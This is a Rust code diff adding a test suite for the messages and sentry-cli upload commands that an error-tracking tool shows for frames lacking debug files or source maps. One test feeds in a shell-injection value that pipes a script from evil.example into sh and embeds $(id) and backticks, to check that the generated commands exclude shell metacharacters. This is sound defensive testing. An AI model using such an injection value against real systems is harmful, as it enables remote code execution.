@@ -99,7 +99,7 @@ fn native(status: &FrameStatus, help: &UploadHelp) -> Draft {
         FrameStatus::MissingDebugFile { debug_id, code_id, code_file, arch } => {
             let file = code_file.as_deref();
             missing_debug_file(debug_id.as_ref(), code_id.as_ref(), file, arch.as_deref())
-                .command("In the folder it was built in:", help.debug_file(debug_id.as_ref(), file))
+                .command(folder_words(file), help.debug_file(debug_id.as_ref(), file))
         }
         FrameStatus::MissingSymbol { debug_id, module_offset } => {
             Draft::new("the debug file has no function at this address")
@@ -148,6 +148,14 @@ fn native(status: &FrameStatus, help: &UploadHelp) -> Draft {
             .text(" of the crate ")
             .code("sentry")
             .text("). There is nothing to upload."),
+    }
+}
+
+fn folder_words(code_file: Option<&str>) -> &'static str {
+    if code_file.is_some_and(is_system) {
+        "With that package installed:"
+    } else {
+        "In the folder it was built in:"
     }
 }
 
@@ -346,4 +354,238 @@ fn ended(text: &str) -> &str {
 /// Control characters would break plain text out of its line.
 fn single_line(text: &str) -> String {
     text.chars().map(|c| if c.is_control() { ' ' } else { c }).collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const ID: &str = "bf5627ec-1a34-c0cc-408d-e3b4ae21aaee";
+    const APP: &str = "https://shop.example/dist/app.js";
+
+    fn help() -> UploadHelp {
+        UploadHelp {
+            origin: "https://errors.example".to_owned(),
+            organization: "default".to_owned(),
+            project: "app".to_owned(),
+            waiting: [(format!("debug-id:{ID}"), 214)].into_iter().collect(),
+        }
+    }
+
+    fn id() -> DebugId {
+        ID.parse().unwrap()
+    }
+
+    #[track_caller]
+    fn check(status: FrameStatus, text: &str, command: Option<&str>) {
+        let reason = reason(&status, &help()).unwrap();
+        assert_eq!(reason.text(), text);
+        assert_eq!(reason.command.as_deref(), command);
+        assert!(!reason.short.is_empty() && !reason.short.contains('\n'));
+    }
+
+    fn missing(code_file: Option<&str>, code_id: Option<&str>) -> FrameStatus {
+        FrameStatus::MissingDebugFile {
+            debug_id: Some(id()),
+            code_id: code_id.map(|id| id.parse().unwrap()),
+            code_file: code_file.map(str::to_owned),
+            arch: Some("x86_64".to_owned()),
+        }
+    }
+
+    #[test]
+    fn readable_frames_need_no_reason() {
+        assert_eq!(reason(&FrameStatus::AsSent, &help()), None);
+        assert_eq!(reason(&FrameStatus::Symbolicated, &help()), None);
+    }
+
+    #[test]
+    fn missing_debug_file_names_file_id_arch_and_waiting_events() {
+        check(
+            missing(
+                Some("/srv/target/release/app"),
+                Some("ec2756bf341accc0408de3b4ae21aaee91d2b0c4"),
+            ),
+            "no debug file for app (build id ec2756bf341a…, x86_64) was uploaded. 214 events wait for it; they are \
+             fixed when it arrives. In the folder it was built in:",
+            Some(
+                "sentry-cli --url https://errors.example debug-files upload --org default --project app \
+                 --include-sources --id bf5627ec-1a34-c0cc-408d-e3b4ae21aaee ./target/release",
+            ),
+        );
+        check(
+            missing(None, None),
+            "no debug file for this image (debug id bf5627ec-1a34-c0cc-408d-e3b4ae21aaee, x86_64) was uploaded. 214 \
+             events wait for it; they are fixed when it arrives. In the folder it was built in:",
+            Some(
+                "sentry-cli --url https://errors.example debug-files upload --org default --project app \
+                 --include-sources --id bf5627ec-1a34-c0cc-408d-e3b4ae21aaee .",
+            ),
+        );
+    }
+
+    #[test]
+    fn a_system_library_is_looked_for_in_its_debug_package() {
+        check(
+            missing(Some("/usr/lib/x86_64-linux-gnu/libc.so.6"), None),
+            "no debug file for libc.so.6 (debug id bf5627ec-1a34-c0cc-408d-e3b4ae21aaee, x86_64) was uploaded. Its \
+             distribution has it as a debug package (-dbg, -dbgsym or -debuginfo). 214 events wait for it; they are \
+             fixed when it arrives. With that package installed:",
+            Some(
+                "sentry-cli --url https://errors.example debug-files upload --org default --project app --id \
+                 bf5627ec-1a34-c0cc-408d-e3b4ae21aaee /usr/lib/debug",
+            ),
+        );
+    }
+
+    #[test]
+    fn other_native_reasons() {
+        let upload = "sentry-cli --url https://errors.example debug-files upload --org default --project app \
+                      --include-sources --id bf5627ec-1a34-c0cc-408d-e3b4ae21aaee .";
+        check(
+            FrameStatus::MissingSymbol { debug_id: id(), module_offset: 0x4b9e },
+            "the uploaded debug file (debug id bf5627ec-1a34-c0cc-408d-e3b4ae21aaee) has no function at +0x4b9e. It \
+             was stripped too far, or this is code that the linker made. Upload the unstripped file:",
+            Some(upload),
+        );
+        check(
+            FrameStatus::SymbolicatedWithoutLine { debug_id: id(), file_has_lines: false },
+            "the uploaded file (debug id bf5627ec-1a34-c0cc-408d-e3b4ae21aaee) knows functions but no lines. Build \
+             with -g (Rust: debug = \"line-tables-only\"), or do not strip. Then upload the file again:",
+            Some(upload),
+        );
+        check(
+            FrameStatus::SymbolicatedWithoutLine { debug_id: id(), file_has_lines: true },
+            "the compiler names no source line for this address; the function is certain.",
+            None,
+        );
+        check(
+            FrameStatus::UnusableDebugFile {
+                debug_id: id(),
+                code_file: Some("/opt/app".to_owned()),
+                reason: "section .debug_line is truncated.".to_owned(),
+            },
+            "the uploaded debug file of app (debug id bf5627ec-1a34-c0cc-408d-e3b4ae21aaee) cannot be used: section \
+             .debug_line is truncated. Build it again, then:",
+            Some(upload),
+        );
+        check(
+            FrameStatus::TooLargeHere {
+                debug_id: id(),
+                reason: "more than 2 GB of memory".to_owned(),
+            },
+            "the file with debug id bf5627ec-1a34-c0cc-408d-e3b4ae21aaee is too large for this server: more than 2 GB \
+             of memory. Give the server more memory, then upload it again:",
+            Some(upload),
+        );
+    }
+
+    #[test]
+    fn frames_without_identity_have_nothing_to_upload() {
+        check(
+            FrameStatus::ImageWithoutId { code_file: Some("/opt/app".to_owned()) },
+            "app has neither a debug id nor a build id, so no file can be matched to it. Link it with \
+             -Wl,--build-id and deploy it again; what crashed so far stays unresolved.",
+            None,
+        );
+        check(
+            FrameStatus::UnknownImage,
+            "the address is in no image that the event lists. It is code made at run time, a damaged stack, or an SDK \
+             that sends no images (Rust: switch on the feature debug-images of the crate sentry). There is nothing to \
+             upload.",
+            None,
+        );
+    }
+
+    const UPLOAD: &str = "sentry-cli --url https://errors.example sourcemaps upload --org default --project app ./dist";
+    const INJECT: &str = "sentry-cli sourcemaps inject ./dist && sentry-cli --url https://errors.example sourcemaps \
+                          upload --org default --project app ./dist";
+
+    #[test]
+    fn missing_source_maps_name_file_and_id() {
+        check(
+            FrameStatus::NoDebugId { abs_path: APP.to_owned() },
+            "https://shop.example/dist/app.js carries no debug id, so no source map can be matched to it. Run this on \
+             the build, then deploy the files it changed:",
+            Some(INJECT),
+        );
+        check(
+            FrameStatus::MissingSourceMap { debug_id: id(), abs_path: APP.to_owned() },
+            "no source map for https://shop.example/dist/app.js (debug id bf5627ec-1a34-c0cc-408d-e3b4ae21aaee) was \
+             uploaded. 214 events wait for it; they are fixed when it arrives. In the folder of the build that is \
+             deployed:",
+            Some(UPLOAD),
+        );
+        check(
+            FrameStatus::BundleWithoutMap { debug_id: id(), abs_path: APP.to_owned() },
+            "https://shop.example/dist/app.js was uploaded (debug id bf5627ec-1a34-c0cc-408d-e3b4ae21aaee), but \
+             without its source map. Build with source maps switched on (esbuild, Vite: sourcemap: true). 214 events \
+             wait for it; they are fixed when it arrives. Build again, then:",
+            Some(INJECT),
+        );
+    }
+
+    #[test]
+    fn source_maps_that_do_not_fit_say_so() {
+        check(
+            FrameStatus::UnusableSourceMap {
+                debug_id: id(),
+                abs_path: APP.to_owned(),
+                reason: "it is not JSON".to_owned(),
+            },
+            "the source map of https://shop.example/dist/app.js (debug id bf5627ec-1a34-c0cc-408d-e3b4ae21aaee) cannot \
+             be used: it is not JSON. Build again, then:",
+            Some(INJECT),
+        );
+        check(
+            FrameStatus::PositionOutOfRange {
+                debug_id: id(),
+                abs_path: APP.to_owned(),
+                what: "line 9 of 3".to_owned(),
+            },
+            "another build of https://shop.example/dist/app.js is running than the one uploaded: line 9 of 3 (debug id \
+             bf5627ec-1a34-c0cc-408d-e3b4ae21aaee). A wrong line would be worse than none. In the folder of the build \
+             that is deployed:",
+            Some(INJECT),
+        );
+        check(
+            FrameStatus::PositionUnmapped { debug_id: id(), abs_path: APP.to_owned() },
+            "the source map of https://shop.example/dist/app.js (debug id bf5627ec-1a34-c0cc-408d-e3b4ae21aaee) has no \
+             original for this position: it is code that the bundler made. There is nothing to upload.",
+            None,
+        );
+        check(
+            FrameStatus::NoPosition { abs_path: String::new() },
+            "the SDK sent no line for this file, so no source map can say more. Built-in functions and evaluated code \
+             look like this; there is nothing to upload.",
+            None,
+        );
+    }
+
+    #[test]
+    fn commands_never_hold_words_of_the_event() {
+        let attack = "x';$(curl evil.example|sh)\n`id`/target/release/$(id)/dist&&id/";
+        let statuses = [
+            missing(Some(attack), None),
+            FrameStatus::MissingSourceMap { debug_id: id(), abs_path: attack.to_owned() },
+            FrameStatus::NoDebugId { abs_path: attack.to_owned() },
+        ];
+        for status in statuses {
+            let reason = reason(&status, &help()).unwrap();
+            let command = reason.command.unwrap();
+            assert!(!command.contains(['$', '`', ';', '\n', '\'', '|']), "{command}");
+            assert!(!reason.short.contains('\n'));
+        }
+    }
+
+    #[test]
+    fn one_event_waits_in_the_singular_and_none_not_at_all() {
+        let mut help = help();
+        let status = FrameStatus::MissingSourceMap { debug_id: id(), abs_path: APP.to_owned() };
+        help.waiting = [(format!("debug-id:{ID}"), 1)].into_iter().collect();
+        let text = reason(&status, &help).unwrap().text();
+        assert!(text.contains(" 1 event waits for it; it is fixed when it arrives."), "{text}");
+        help.waiting.clear();
+        assert!(!reason(&status, &help).unwrap().text().contains("wait"));
+    }
 }
